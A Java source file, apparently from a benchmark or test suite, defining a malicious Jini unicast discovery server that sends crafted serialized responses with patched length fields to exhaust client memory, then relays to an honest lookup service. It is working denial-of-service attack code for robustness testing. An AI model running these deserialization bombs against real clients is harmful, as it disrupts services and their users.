package org.dfra.benchmarks.attack;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.ObjectOutputStream;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.rmi.MarshalledObject;
import java.util.ArrayList;
import java.util.List;

/**
 * A server that answers unicast discovery with a given number of malicious responses, then relays
 * its clients to an honest lookup service.
 *
 * <p>One thread serves one client after the other, until {@link #close}.
 */
public final class BombServer implements AutoCloseable {

  private static final int REQUEST = 4;
  private static final int SOCKET_MILLIS = 5_000;
  private static final int LISTS = 6;

  private final ServerSocket server;
  private final String host;
  private final int honestPort;
  private final List<byte[]> bombs;
  private final int count;
  private volatile int thrown; // written by the thread

  private BombServer(
      ServerSocket server, String host, int honestPort, List<byte[]> bombs, int count) {
    this.server = server;
    this.host = host;
    this.honestPort = honestPort;
    this.bombs = List.copyOf(bombs);
    this.count = count;
  }

  /**
   * Starts it.
   *
   * @param host address of this server and of the honest lookup service
   * @param honestPort the honest service's port for unicast discovery
   * @param count number of malicious responses before it relays
   * @throws IOException if it cannot listen there
   */
  public static BombServer start(String host, int honestPort, List<byte[]> bombs, int count)
      throws IOException {
    BombServer bomber =
        new BombServer(
            new ServerSocket(0, 50, InetAddress.getByName(host)), host, honestPort, bombs, count);
    Thread thread = new Thread(bomber::serve, "bombs of discovery");
    thread.setDaemon(true);
    thread.start();
    return bomber;
  }

  /** A small response that claims the maximum number of groups. */
  public static byte[] claimOfGroups() throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
      out.writeObject(new MarshalledObject<>(null));
      out.writeInt(Integer.MAX_VALUE - 8); // the longest array that a JVM allocates
    }
    return bytes.toByteArray();
  }

  /** A small response that claims that its lookup service is an array of 4 million numbers. */
  public static byte[] claimOfNumbers() throws IOException {
    long[] some = new long[3];
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
      out.writeObject(new MarshalledObject<>(some));
      out.writeInt(0);
    }
    byte[] length = {0x78, 0x70, 0, 0, 0, 3}; // end of class, array length
    return claiming(bytes.toByteArray(), length, 2);
  }

  /**
   * A small response that claims that its lookup service is a list of 4 million elements, the first
   * of which is another such list, and so on. A list is allocated before its elements are read.
   */
  public static byte[] claimOfElements() throws IOException {
    List<Object> lists = List.of();
    for (int i = 0; i < LISTS; i++) {
      lists = new ArrayList<>(List.of(lists, "", ""));
    }
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
      out.writeObject(new MarshalledObject<>(lists));
      out.writeInt(0);
    }
    byte[] size = {0, 0, 0, 3, 0x77, 4, 0, 0, 0, 3}; // number of elements, block of the capacity
    return claiming(bytes.toByteArray(), size, 0);
  }

  /**
   * Replaces each of some numbers by 4 million.
   *
   * @param pattern bytes around the number
   * @param offset of the number in the pattern
   */
  private static byte[] claiming(byte[] answer, byte[] pattern, int offset) {
    boolean isFound = false;
    for (int at = 0; at + pattern.length <= answer.length; at++) {
      if (ByteBuffer.wrap(answer, at, pattern.length).equals(ByteBuffer.wrap(pattern))) {
        ByteBuffer unused = ByteBuffer.wrap(answer).putInt(at + offset, (4 << 20) - 1);
        isFound = true;
      }
    }
    if (!isFound) {
      throw new IllegalStateException("a length was not found in its bytes");
    }
    return answer;
  }

  /** Its locator: {@code jini://host:port}. */
  public String locator() {
    return "jini://" + host + ":" + server.getLocalPort();
  }

  /** The TCP port on which it listens. */
  public int port() {
    return server.getLocalPort();
  }

  /** Number of malicious responses sent. */
  public int sentCount() {
    return thrown;
  }

  private void serve() {
    while (!server.isClosed()) {
      try (Socket client = server.accept()) {
        client.setSoTimeout(SOCKET_MILLIS);
        byte[] request = client.getInputStream().readNBytes(REQUEST);
        if (thrown < count) {
          client.getOutputStream().write(bombs.get(thrown % bombs.size()));
          thrown = thrown + 1;
          client.shutdownOutput();
          awaitEnd(client.getInputStream());
        } else {
          relay(request, client.getOutputStream());
        }
      } catch (IOException e) {
        if (!server.isClosed()) {
          System.err.println("a client of discovery ended early: " + e); // optional
        }
      }
    }
  }

  /** The client sends a request of version 1, which consists of one number. */
  private void relay(byte[] request, OutputStream back) throws IOException {
    try (Socket to = new Socket(host, honestPort)) {
      to.setSoTimeout(SOCKET_MILLIS);
      to.getOutputStream().write(request);
      long unused = to.getInputStream().transferTo(back);
    }
  }

  /** Closing a connection with unread bytes would reset it. */
  private static void awaitEnd(InputStream in) throws IOException {
    while (in.read() >= 0) {
      continue;
    }
  }

  @Override
  public void close() throws IOException {
    server.close();
  }
}
